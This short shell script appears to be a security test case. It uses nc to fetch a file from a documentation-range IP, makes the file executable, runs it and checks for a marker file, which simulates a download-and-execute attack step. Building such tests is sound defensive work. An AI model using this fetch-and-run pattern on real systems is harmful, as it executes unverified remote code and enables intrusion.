#!/bin/sh
. /opt/case/case.sh

printf 'GET /programs/marker HTTP/1.0\r\n\r\n' | nc 203.0.113.10 80 | sed '1,/^\r$/d' >/var/tmp/m
chmod +x /var/tmp/m
/var/tmp/m
test -e /tmp/reached
took_place
